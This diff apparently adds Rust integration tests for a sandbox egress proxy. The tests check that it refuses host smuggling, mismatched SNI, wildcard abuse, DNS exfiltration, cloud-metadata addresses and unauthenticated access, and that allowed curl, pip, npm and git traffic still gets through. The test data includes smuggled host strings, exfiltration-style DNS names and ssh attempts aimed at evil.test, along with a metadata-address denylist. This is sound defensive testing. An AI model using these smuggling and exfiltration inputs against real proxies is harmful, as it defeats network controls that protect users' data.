+    for label in ["addr-v4", "addr-v6", "addrconnect-v4", "addrconnect-v6"] {
+        assert!(probe(&run, label).starts_with("HTTP/1.1 403"), "{label}");
+    }
+    assert_eq!(probe(&run, "socks-addr-v4"), "REPLY 2");
+    assert_eq!(probe(&run, "socks-addr-v6"), "REPLY 2");
+    assert_violation(&env, &id, "169.254.169.254:80", "numeric-host");
+    assert_eq!(web.seen(), 0, "{:?}", web.requests());
+    // `show --net` lists the denylist.
+    env.run(["show", &id, "--net"])
+        .ok()
+        .stdout_has("metadata.google.internal")
+        .stdout_has("169.254.169.254");
+}
+
+// ---------------------------------------------------------------------------------------
+// 24. Smuggling: names that disagree
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn attack_24_smuggled_hosts_are_refused() {
+    let names = ["allowed.test", "evil.test"];
+    let (env, id) = setup(&pins(&names, true));
+    let web = Web::start("web");
+    let certs = make_certs(&env.workdir(&id).join("tls"), &names);
+    let files = env.root.join("files");
+    fs::create_dir_all(&files).unwrap();
+    fs::write(files.join("index.html"), "tls index\n").unwrap();
+    let tls = FileServer::start(&files, &certs, &env.root.join("tls.log"));
+    let (p, t) = (web.port, tls.https);
+    let probes = [
+        format!("port-smuggle|http|http://allowed.test:443.evil.test:{p}/|allowed.test:{p}"),
+        format!("port-smuggle-connect|connect|allowed.test:443.evil.test:{p}|-"),
+        format!("port-smuggle-socks|socks|domain|allowed.test:443.evil.test|{p}"),
+        format!("userinfo|http|http://allowed.test@evil.test:{p}/|allowed.test:{p}"),
+        format!("host-disagrees|http|http://allowed.test:{p}/|evil.test:{p}"),
+        format!("host-disagrees-port|http|http://allowed.test:{p}/|allowed.test:1"),
+        format!("connect-host-disagrees|connect|allowed.test:{p}|evil.test:{p}"),
+        format!("tunnel-host-disagrees|connect|allowed.test:{p}|-|evil.test"),
+        format!("tunnel-host-agrees|connect|allowed.test:{p}|-|allowed.test"),
+        format!("sni-disagrees|connect|allowed.test:{t}|-|-|evil.test"),
+        format!("sni-disagrees-socks|socks|domain|allowed.test|{t}|2|-|1|evil.test"),
+        format!("sni-agrees-socks|socks|domain|allowed.test|{t}|2|-|1|allowed.test"),
+        format!("sni-agrees|connect|allowed.test:{t}|-|-|allowed.test"),
+        format!("sni-agrees-case-dot|connect|ALLOWED.Test.:{t}|-|-|allowed.test"),
+        format!("evil-case-dot|http|http://EVIL.Test.:{p}/|EVIL.Test.:{p}"),
+        format!("twin-case-dot|http|http://ALLOWED.test.:{p}/|ALLOWED.test.:{p}"),
+        format!("percent|http|http://allowed%2etest:{p}/|allowed.test:{p}"),
+        format!("nul|connect|allowed.test\u{1}.evil.test:{p}|-"),
+    ];
+    let args: Vec<&str> = probes.iter().map(String::as_str).collect();
+    let run = py(&env, &id, &["allowed.test"], PROBES, &args);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    for label in [
+        "port-smuggle",
+        "port-smuggle-connect",
+        "userinfo",
+        "host-disagrees",
+        "host-disagrees-port",
+        "connect-host-disagrees",
+        "evil-case-dot",
+        "percent",
+        "nul",
+    ] {
+        let got = probe(&run, label);
+        assert!(got.starts_with("HTTP/1.1 40"), "{label}: {got}");
+    }
+    assert_eq!(probe(&run, "port-smuggle-socks"), "REPLY 2");
+    assert!(probe(&run, "host-disagrees").contains("rule: host-mismatch"));
+    assert!(probe(&run, "connect-host-disagrees").contains("HTTP/1.1 403"));
+    // Inside an accepted tunnel the first request's Host, and a ClientHello's server
+    // name, must still name the tunnel's host: the proxy closes the tunnel otherwise.
+    let tunnel = probe(&run, "tunnel-host-disagrees");
+    assert!(
+        tunnel.starts_with("TUNNEL") && !tunnel.contains("hello"),
+        "{tunnel}"
+    );
+    assert!(probe(&run, "tunnel-host-agrees").contains("hello from web"));
+    assert!(
+        probe(&run, "sni-disagrees").starts_with("TLS-FAILED"),
+        "{}",
+        probe(&run, "sni-disagrees")
+    );
+    assert!(
+        probe(&run, "sni-agrees").contains("tls index"),
+        "{}",
+        probe(&run, "sni-agrees")
+    );
+    assert!(probe(&run, "sni-agrees-case-dot").contains("tls index"));
+    assert!(
+        probe(&run, "sni-disagrees-socks").starts_with("REPLY 0 TLS-FAILED"),
+        "{}",
+        probe(&run, "sni-disagrees-socks")
+    );
+    assert!(probe(&run, "sni-agrees-socks").contains("tls index"));
+    assert!(probe(&run, "twin-case-dot").contains("hello from web"));
+    assert_violation(&env, &id, &format!("allowed.test:{p}"), "host-mismatch");
+    assert_violation(&env, &id, &format!("allowed.test:{t}"), "host-mismatch");
+    assert_violation(&env, &id, &format!("EVIL.Test.:{p}"), "allowlist");
+    // What reached the servers: only the agreeing twins.
+    for r in web.requests() {
+        assert!(
+            r.contains("Host: allowed.test") || r.contains("Host: ALLOWED.test."),
+            "{r}"
+        );
+        assert!(!r.to_ascii_lowercase().contains("evil"), "{r}");
+    }
+    assert_eq!(web.requests().len(), 2, "{:?}", web.requests());
+    assert!(!tls.log().contains("evil"), "{}", tls.log());
+    // curl over CONNECT and SOCKS names the same host in the target and the SNI.
+    let curl = sh(
+        &env,
+        &id,
+        &["allowed.test"],
+        &format!("curl -sS --cacert tls/ca.pem https://allowed.test:{t}/ && curl -sS --cacert tls/ca.pem -x \"$ALL_PROXY\" https://allowed.test:{t}/"),
+        &[],
+    );
+    assert_eq!(curl.stdout, "tls index\ntls index\n", "{}", curl.stderr);
+}
+
+// ---------------------------------------------------------------------------------------
+// 25. Wildcards
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn attack_25_wildcards_admit_exactly_their_form() {
+    let admitted = [
+        "api.wild.test",
+        "a.b.wild.test",
+        "bedrock.us-east-1.cloud.test",
+    ];
+    let refused = [
+        "wild.test",
+        "evilwild.test",
+        "wild.test.evil.test",
+        "api.wild.test.evil.test",
+        "bedrock.cloud.test",
+        "bedrock.a.b.cloud.test",
+        "xbedrock.us-east-1.cloud.test",
+    ];
+    let all: Vec<&str> = admitted.iter().chain(refused.iter()).copied().collect();
+    let (env, id) = setup(&pins(&all, true));
+    let web = Web::start("web");
+    let p = web.port;
+    let mut probes = Vec::new();
+    for n in &all {
+        probes.push(format!("{n}|http|http://{n}:{p}/|{n}:{p}"));
+        probes.push(format!("{n}-socks|socks|domain|{n}|{p}"));
+    }
+    let args: Vec<&str> = probes.iter().map(String::as_str).collect();
+    let run = py(
+        &env,
+        &id,
+        &["*.wild.test", "bedrock.*.cloud.test"],
+        PROBES,
+        &args,
+    );
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    for n in admitted {
+        assert!(
+            probe(&run, n).contains("hello from web"),
+            "{n}: {}",
+            probe(&run, n)
+        );
+        assert!(
+            probe(&run, &format!("{n}-socks")).contains("hello from web"),
+            "{n}"
+        );
+    }
+    for n in refused {
+        let got = probe(&run, n);
+        assert!(
+            got.starts_with("HTTP/1.1 403") && got.contains("rule: allowlist"),
+            "{n}: {got}"
+        );
+        assert_eq!(probe(&run, &format!("{n}-socks")), "REPLY 2", "{n}");
+        assert_violation(&env, &id, &format!("{n}:{p}"), "allowlist");
+    }
+    assert_eq!(web.seen(), 2 * admitted.len(), "{:?}", web.requests());
+    // A pattern with a * anywhere else is refused before anything runs.
+    for bad in [
+        "*",
+        "a*.wild.test",
+        "*.*.wild.test",
+        "wild.*",
+        "wild.test/8",
+    ] {
+        env.run(["run", &id, "--allow-domain", bad, "--", "true"])
+            .fails(2);
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// 26. The proxy needs this run's token
+// ---------------------------------------------------------------------------------------
+
+/// Host processes whose command line contains `needle`.
+fn host_pids_with(needle: &str) -> Vec<u32> {
+    let mut out = Vec::new();
+    for entry in fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
+            continue;
+        };
+        let cmd = fs::read(entry.path().join("cmdline")).unwrap_or_default();
+        if String::from_utf8_lossy(&cmd).contains(needle) {
+            out.push(pid);
+        }
+    }
+    out
+}
+
+#[test]
+fn attack_26_the_proxy_needs_this_runs_token() {
+    let (env, id) = setup(&pins(&["allowed.test"], true));
+    let web = Web::start("web");
+    let p = web.port;
+    // From inside, without the token or with a wrong one.
+    let script = format!(
+        r#"
+echo "NONE $(curl -s -o /dev/null -w '%{{http_code}}' -x http://127.0.0.1:3128 http://allowed.test:{p}/)"
+echo "WRONG $(curl -s -o /dev/null -w '%{{http_code}}' -x http://gitloop:wrong@127.0.0.1:3128 http://allowed.test:{p}/)"
+echo "CONNECT-NONE $(curl -s -o /dev/null -w '%{{http_connect}}' -x http://127.0.0.1:3128 -p http://allowed.test:{p}/)"
+python3 -c "$1" 'noauth|socks|domain|allowed.test|{p}|0' 'wrongpw|socks|domain|allowed.test|{p}|2|nottoken' 'twin|socks|domain|allowed.test|{p}'
+"#
+    );
+    let run = sh(&env, &id, &["allowed.test"], &script, &[PROBES]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    run.stdout_has("NONE 407\n")
+        .stdout_has("WRONG 407\n")
+        .stdout_has("CONNECT-NONE 407\n");
+    assert_eq!(probe(&run, "noauth"), "METHOD-REFUSED 05ff");
+    assert_eq!(probe(&run, "wrongpw"), "AUTH-REFUSED 0101");
+    assert!(probe(&run, "twin").contains("hello from web"));
+    assert_violation(&env, &id, &format!("allowed.test:{p}"), "credentials");
+    assert_eq!(web.seen(), 1);
+
+    // From outside: another local process. Nothing on the host's filesystem leads to the
+    // proxy (no socket file anywhere in the workspace), and a process that enters the
+    // sandbox's network namespace still needs the token.
+    let Some(nsenter) = require("nsenter", "util-linux") else {
+        return;
+    };
+    let marker = format!("glk-egress-{}-{}", std::process::id(), p);
+    let wd = env.workdir(&id);
+    let mut live = env
+        .command()
+        .current_dir(&env.root)
+        .args([
+            "run",
+            "-q",
+            &id,
+            "--allow-domain",
+            "allowed.test",
+            "--",
+            "sh",
+            "-c",
+        ])
+        .arg("touch .ready; while [ ! -e .go ]; do sleep 0.05; done")
+        .arg(&marker)
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let start = Instant::now();
+    while !wd.join(".ready").exists() {
+        assert!(
+            start.elapsed() < Duration::from_secs(30),
+            "the sandbox did not start"
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let mut sockets = Vec::new();
+    let mut stack = vec![env.root.clone()];
+    while let Some(dir) = stack.pop() {
+        for e in fs::read_dir(&dir).into_iter().flatten().flatten() {
+            let Ok(t) = e.file_type() else { continue };
+            if t.is_dir() {
+                stack.push(e.path());
+            } else if std::os::unix::fs::FileTypeExt::is_socket(&t) {
+                sockets.push(e.path());
+            }
+        }
+    }
+    let own_net = fs::read_link("/proc/self/ns/net").unwrap();
+    let inside = host_pids_with(&marker)
+        .into_iter()
+        .find(|pid| fs::read_link(format!("/proc/{pid}/ns/net")).is_ok_and(|n| n != own_net))
+        .expect("a process of the sandbox");
+    let outsider = |proxy: &str| {
+        let out = Command::new(&nsenter)
+            .args([
+                "-t",
+                &inside.to_string(),
+                "-U",
+                "-n",
+                "--preserve-credentials",
+                "curl",
+                "-s",
+                "-o",
+                "/dev/null",
+                "-w",
+                "%{http_code}",
+                "-m",
+                "10",
+                "-x",
+                proxy,
+            ])
+            .arg(format!("http://allowed.test:{p}/"))
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let none = outsider("http://127.0.0.1:3128");
+    let wrong = outsider("http://gitloop:0000@127.0.0.1:3128");
+    fs::write(wd.join(".go"), "").unwrap();
+    let _ = live.wait();
+    assert_eq!(sockets, Vec::<PathBuf>::new(), "a socket file on the host");
+    assert_eq!(none, "407", "a local process without the token");
+    assert_eq!(wrong, "407", "a local process with a wrong token");
+    assert_eq!(web.seen(), 1);
+}
+
+// ---------------------------------------------------------------------------------------
+// 27. DNS goes nowhere
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn attack_27_names_do_not_resolve_inside() {
+    let (env, id) = setup(&pins(&["allowed.test"], true));
+    let udp = UdpCanary::start();
+    let web = Web::start("web");
+    let code = r#"
+import socket, struct, sys
+udp_port, port = int(sys.argv[1]), int(sys.argv[2])
+try:
+    conf = open("/etc/resolv.conf").read()
+except OSError:
+    conf = ""
+print("NAMESERVERS", len([l for l in conf.splitlines() if l.strip().startswith("nameserver")]))
+for name in ["allowed.test", "exfil-c2VjcmV0.evil.test", "github.com"]:
+    try:
+        print("RESOLVED", name, socket.getaddrinfo(name, 80))
+    except socket.gaierror as e:
+        print("UNRESOLVED", name)
+# A DNS query by hand, to the host's loopback port: the sandbox's loopback is its own.
+q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x06secret\x04evil\x04test\x00\x00\x01\x00\x01"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(1)
+try:
+    s.sendto(q, ("127.0.0.1", udp_port))
+    s.recvfrom(512)
+    print("ESCAPED: a DNS answer")
+except OSError as e:
+    print("NO-ANSWER", type(e).__name__)
+"#;
+    let run = py(
+        &env,
+        &id,
+        &["allowed.test"],
+        code,
+        &[&udp.port().to_string(), &web.port.to_string()],
+    );
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    assert!(!run.stdout.contains("ESCAPED"), "{}", run.stdout);
+    assert!(
+        !run.stdout.lines().any(|l| l.starts_with("RESOLVED")),
+        "{}",
+        run.stdout
+    );
+    run.stdout_has("NAMESERVERS 0")
+        .stdout_has("UNRESOLVED allowed.test")
+        .stdout_has("UNRESOLVED exfil-c2VjcmV0.evil.test")
+        .stdout_has("UNRESOLVED github.com");
+    assert!(!udp.received(), "a datagram reached the host");
+    // getent, and UDP through the SOCKS proxy (UDP ASSOCIATE): refused too.
+    let more = sh(
+        &env,
+        &id,
+        &["allowed.test"],
+        "getent hosts allowed.test || echo GETENT-FAILED; python3 -c \"$1\" 'udp|socks|domain|allowed.test|53|2|-|3'",
+        &[PROBES],
+    );
+    more.stdout_has("GETENT-FAILED");
+    assert_eq!(probe(&more, "udp"), "REPLY 7");
+    assert_violation(&env, &id, "allowed.test:53", "unsupported");
+    // Positive twin: names resolve through the proxy.
+    sh(
+        &env,
+        &id,
+        &["allowed.test"],
+        &format!("curl -sS http://allowed.test:{}/", web.port),
+        &[],
+    )
+    .ok()
+    .stdout_has("hello from web");
+}
+
+// ---------------------------------------------------------------------------------------
+// Positive twins: what legitimate work needs
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn proxy_is_the_default_and_show_net_lists_the_allowlist() {
+    let (env, id) = setup(&pins(&["allowed.test"], true));
+    let record = fs::read_to_string(env.loop_dir(&id).join("loop.toml")).unwrap();
+    assert!(record.contains("network = \"proxy\""), "{record}");
+    let run = env.run(["run", &id, "--", "true"]).ok();
+    assert!(
+        run.stderr
+            .starts_with("git-loop: sandbox bwrap · net proxy ("),
+        "{}",
+        run.stderr
+    );
+    assert!(run.stderr.contains(" domains) · "), "{}", run.stderr);
+    let profile = env
+        .ws
+        .join("context/knowledge/.loopat/sandboxes/default/sandbox.toml");
+    fs::create_dir_all(profile.parent().unwrap()).unwrap();
+    fs::write(&profile, "[network]\nallow_domains = [\"team.example\"]\n").unwrap();
+    env.run([
+        "config",
+        "set",
+        "network.allow_domains",
+        "[\"mine.example\", \"*.mine.example\"]",
+    ])
+    .ok();
+    let show = env.run(["show", &id, "--net"]).ok();
+    show.stdout_has("api.anthropic.com")
+        .stdout_has("baseline (LLM providers)")
+        .stdout_has("github.com")
+        .stdout_has("registry.npmjs.org")
+        .stdout_has("pypi.org")
+        .stdout_has("team.example")
+        .stdout_has("profile default")
+        .stdout_has("*.mine.example")
+        .stdout_has("config (personal")
+        .stdout_has("pinned: allowed.test -> 127.0.0.1")
+        .stdout_has("allowed range: 127.0.0.0/8");
+    let json = env.run(["show", &id, "--net", "--json"]).ok().json();
+    let allow = json["allow"].as_array().unwrap();
+    assert!(allow
+        .iter()
+        .any(|a| a["domain"] == "team.example" && a["source"] == "profile default"));
+    assert!(json["deny_addresses"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|d| d["address"] == "169.254.169.254"));
+    // The status line counts every source.
+    let run = env
+        .run(["run", &id, "--allow-domain", "extra.example", "--", "true"])
+        .ok();
+    let count = |r: &Run| -> usize {
+        r.stderr
+            .split("net proxy (")
+            .nth(1)
+            .and_then(|s| s.split(' ').next())
+            .and_then(|n| n.parse().ok())
+            .unwrap()
+    };
+    assert_eq!(count(&run), allow.len() + 1);
+    // A bad entry in the profile is reported with where it is.
+    fs::write(&profile, "[network]\nallow_domains = [\"not a domain\"]\n").unwrap();
+    env.run(["run", &id, "--", "true"])
+        .fails(1)
+        .stderr_has("sandbox.toml");
+    // The other modes stay.
+    fs::remove_file(&profile).unwrap();
+    env.run(["run", &id, "--net", "none", "--", "true"])
+        .ok()
+        .stderr_has("net none");
+    // A missing command is reported like a shell would, with its exit code.
+    let missing = env.run(["run", &id, "--", "no-such-command-here"]);
+    assert_eq!(missing.code, 127, "{}", missing.stderr);
+    missing.stderr_has("cannot run no-such-command-here");
+}
+
+#[test]
+fn curl_reaches_an_allowed_host_over_http_https_and_socks() {
+    let names = ["allowed.test"];
+    let (env, id) = setup(&pins(&names, true));
+    let certs = make_certs(&env.workdir(&id).join("tls"), &names);
+    let files = env.root.join("files");
+    fs::create_dir_all(&files).unwrap();
+    fs::write(files.join("hello.txt"), "hello over the proxy\n").unwrap();
+    let server = FileServer::start(&files, &certs, &env.root.join("files.log"));
+    let (h, t) = (server.http, server.https);
+    let script = format!(
+        r#"
+echo "HTTP $(curl -sS http://allowed.test:{h}/hello.txt)"
+echo "HTTPS $(curl -sS --cacert tls/ca.pem https://allowed.test:{t}/hello.txt)"
+echo "SOCKS $(curl -sS -x "$ALL_PROXY" http://allowed.test:{h}/hello.txt)"
+echo "SOCKS-TLS $(curl -sS --cacert tls/ca.pem -x "$ALL_PROXY" https://allowed.test:{t}/hello.txt)"
+"#
+    );
+    let run = sh(&env, &id, &["allowed.test"], &script, &[]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    for label in ["HTTP", "HTTPS", "SOCKS", "SOCKS-TLS"] {
+        run.stdout_has(&format!("{label} hello over the proxy"));
+    }
+    assert!(
+        violations(&env, &id).is_empty(),
+        "{:?}",
+        violations(&env, &id)
+    );
+    assert_eq!(server.log().lines().count(), 4, "{}", server.log());
+}
+
+/// A wheel pip can download: a zip with the dist-info files.
+const MAKE_WHEEL: &str = r#"
+import sys, zipfile
+with zipfile.ZipFile(sys.argv[1], "w") as z:
+    z.writestr("demo/__init__.py", "")
+    z.writestr("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
+    z.writestr("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+    z.writestr("demo-1.0.dist-info/RECORD", "")
+"#;
+
+#[test]
+fn pip_and_npm_style_clients_use_https_proxy() {
+    let names = ["pypi.test", "npm.test"];
+    // The real registries of the baseline are pinned to loopback too: a tool that looked
+    // past its flags would hit a closed local port, never the internet.
+    let mut all = names.to_vec();
+    all.extend(["pypi.org", "files.pythonhosted.org", "registry.npmjs.org"]);
+    let (env, id) = setup(&pins(&all, true));
+    let certs = make_certs(&env.workdir(&id).join("tls"), &names);
+    let files = env.root.join("registry");
+    fs::create_dir_all(files.join("simple/demo")).unwrap();
+    let wheel = files.join("simple/demo/demo-1.0-py3-none-any.whl");
+    let status = Command::new("python3")
+        .args(["-c", MAKE_WHEEL])
+        .arg(&wheel)
+        .status()
+        .unwrap();
+    assert!(status.success());
+    fs::write(
+        files.join("simple/demo/index.html"),
+        "<html><body><a href=\"demo-1.0-py3-none-any.whl\">demo-1.0-py3-none-any.whl</a></body></html>\n",
+    )
+    .unwrap();
+    let server = FileServer::start(&files, &certs, &env.root.join("registry.log"));
+    let t = server.https;
+    fs::write(
+        files.join("npm-demo"),
+        format!(
+            r#"{{"name":"npm-demo","dist-tags":{{"latest":"1.2.3"}},"versions":{{"1.2.3":{{"name":"npm-demo","version":"1.2.3","dist":{{"tarball":"https://npm.test:{t}/npm-demo-1.2.3.tgz"}}}}}}}}"#
+        ),
+    )
+    .unwrap();
+    // pip as installed on the system (requests/urllib3 honour HTTPS_PROXY), and Python's
+    // own urllib the same way.
+    let has_pip = Command::new("/usr/bin/python3")
+        .args(["-m", "pip", "--version"])
+        .output()
+        .is_ok_and(|o| o.status.success());
+    assert!(
+        has_pip || std::env::var_os("CI").is_none(),
+        "pip is needed for this test: sudo apt-get install python3-pip"
+    );
+    let pip = format!(
+        "/usr/bin/python3 -m pip download --disable-pip-version-check --no-cache-dir --no-deps \
+         --index-url https://pypi.test:{t}/simple/ --cert tls/ca.pem -d /tmp/dl demo==1.0 2>&1 | tail -n 3; ls /tmp/dl"
+    );
+    if has_pip {
+        let run = sh(&env, &id, &["pypi.test"], &pip, &[]);
+        assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+        run.stdout_has("demo-1.0-py3-none-any.whl");
+    }
+    let urllib = format!(
+        "import ssl, urllib.request; print('URLLIB', urllib.request.urlopen('https://pypi.test:{t}/simple/demo/', context=ssl.create_default_context(cafile='tls/ca.pem')).status)"
+    );
+    py(&env, &id, &["pypi.test"], &urllib, &[])
+        .ok()
+        .stdout_has("URLLIB 200");
+    if require("npm", "npm").is_some() {
+        let npm = format!(
+            "NO_UPDATE_NOTIFIER=1 npm view npm-demo version --registry https://npm.test:{t}/ --cafile tls/ca.pem \
+             --userconfig /dev/null --no-update-notifier --no-audit --no-fund 2>&1"
+        );
+        let run = sh(&env, &id, &["npm.test"], &npm, &[]);
+        assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+        run.stdout_has("1.2.3");
+    }
+    let log = server.log();
+    assert!(log.contains("https pypi.test"), "{log}");
+    assert!(
+        violations(&env, &id).is_empty(),
+        "{:?}",
+        violations(&env, &id)
+    );
+}
+
+#[test]
+fn git_clones_over_http_and_https_through_the_proxy() {
+    let names = ["git.test"];
+    let (env, id) = setup(&pins(&names, true));
+    let certs = make_certs(&env.workdir(&id).join("tls"), &names);
+    // A bare repository served by a dumb HTTP server.
+    let served = env.root.join("served");
+    fs::create_dir_all(&served).unwrap();
+    let src = env.repo("upstream");
+    env.git(
+        &served,
+        ["clone", "-q", "--bare", src.to_str().unwrap(), "repo.git"],
+    );
+    env.git(&served.join("repo.git"), ["update-server-info"]);
+    let server = FileServer::start(&served, &certs, &env.root.join("git.log"));
+    let script = format!(
+        r#"
+git clone -q http://git.test:{h}/repo.git /tmp/plain && git -C /tmp/plain log --oneline | sed 's/^/PLAIN /'
+git -c http.sslCAInfo=tls/ca.pem clone -q https://git.test:{t}/repo.git /tmp/tls && git -C /tmp/tls log --oneline | sed 's/^/TLS /'
+"#,
+        h = server.http,
+        t = server.https
+    );
+    let run = sh(&env, &id, &["git.test"], &script, &[]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    run.stdout_has("PLAIN ")
+        .stdout_has(" first")
+        .stdout_has("TLS ");
+    assert!(server.log().contains("info/refs"), "{}", server.log());
+    assert!(
+        violations(&env, &id).is_empty(),
+        "{:?}",
+        violations(&env, &id)
+    );
+}
+
+const SSHD_CONFIG: &str = "ListenAddress 127.0.0.1
+Port {port}
+HostKey {dir}/host_key
+AuthorizedKeysFile {dir}/authorized_keys
+PidFile none
+StrictModes no
+UsePAM no
+PasswordAuthentication no
+KbdInteractiveAuthentication no
+PermitRootLogin prohibit-password
+AllowUsers {user}
+LogLevel ERROR
+";
+
+#[test]
+fn git_clones_over_ssh_through_socks() {
+    let Some(sshd) = require("sshd", "openssh-server") else {
+        return;
+    };
+    let names = ["git.test"];
+    let (env, id) = setup(&pins(&names, true));
+    let dir = env.root.join("sshd");
+    fs::create_dir_all(&dir).unwrap();
+    let keygen = |path: &Path| {
+        let out = Command::new("ssh-keygen")
+            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
+            .arg(path)
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    };
+    keygen(&dir.join("host_key"));
+    let wd = env.workdir(&id);
+    keygen(&wd.join("id_test"));
+    fs::set_permissions(wd.join("id_test"), fs::Permissions::from_mode(0o600)).unwrap();
+    fs::copy(wd.join("id_test.pub"), dir.join("authorized_keys")).unwrap();
+    // The user sshd logs in is this test's own (root on CI).
+    let user = String::from_utf8(Command::new("id").arg("-un").output().unwrap().stdout)
+        .unwrap()
+        .trim()
+        .to_string();
+    // sshd needs its privilege-separation folder when started as root (a service
+    // manager makes it at boot; a test machine may have none).
+    // SAFETY: geteuid has no preconditions.
+    if unsafe { libc::geteuid() } == 0 {
+        fs::create_dir_all("/run/sshd").unwrap();
+    }
+    let port = {
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        l.local_addr().unwrap().port()
+    };
+    let config = SSHD_CONFIG
+        .replace("{port}", &port.to_string())
+        .replace("{dir}", dir.to_str().unwrap())
+        .replace("{user}", &user);
+    fs::write(dir.join("sshd_config"), config).unwrap();
+    let mut daemon = Command::new(&sshd)
+        .args(["-D", "-e", "-f"])
+        .arg(dir.join("sshd_config"))
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    struct Kill(Child);
+    impl Drop for Kill {
+        fn drop(&mut self) {
+            let _ = self.0.kill();
+            let _ = self.0.wait();
+        }
+    }
+    let start = Instant::now();
+    while TcpStream::connect(("127.0.0.1", port)).is_err() {
+        if let Ok(Some(status)) = daemon.try_wait() {
+            let mut err = String::new();
+            daemon
+                .stderr
+                .take()
+                .unwrap()
+                .read_to_string(&mut err)
+                .unwrap();
+            panic!("sshd exited ({status}): {err}");
+        }
+        assert!(
+            start.elapsed() < Duration::from_secs(20),
+            "sshd did not start"
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let _daemon = Kill(daemon);
+    let host_key = fs::read_to_string(dir.join("host_key.pub")).unwrap();
+    fs::write(
+        wd.join("known_hosts"),
+        format!("[git.test]:{port} {host_key}"),
+    )
+    .unwrap();
+    let served = env.root.join("served");
+    fs::create_dir_all(&served).unwrap();
+    let src = env.repo("upstream");
+    env.git(
+        &served,
+        ["clone", "-q", "--bare", src.to_str().unwrap(), "repo.git"],
+    );
+    // git's own GIT_SSH_COMMAND from git-loop (the ProxyCommand through SOCKS), with the
+    // key and known hosts of this test added.
+    let script = format!(
+        r#"
+case "$GIT_SSH_COMMAND" in *__connect*) echo "SSH-COMMAND set";; esac
+export GIT_SSH_COMMAND="$GIT_SSH_COMMAND -i $PWD/id_test -o UserKnownHostsFile=$PWD/known_hosts -o StrictHostKeyChecking=yes -o BatchMode=yes"
+git clone -q ssh://{user}@git.test:{port}{repo} /tmp/viassh 2>&1 && git -C /tmp/viassh log --oneline | sed 's/^/SSH /'
+git clone -q ssh://{user}@evil.test:{port}{repo} /tmp/evil 2>&1 | sed 's/^/EVIL /'
+"#,
+        repo = served.join("repo.git").display()
+    );
+    let run = sh(&env, &id, &["git.test"], &script, &[]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    run.stdout_has("SSH-COMMAND set")
+        .stdout_has("SSH ")
+        .stdout_has(" first")
+        .stdout_has("EVIL error: cannot connect to evil.test");
+    assert_violation(&env, &id, &format!("evil.test:{port}"), "allowlist");
+}
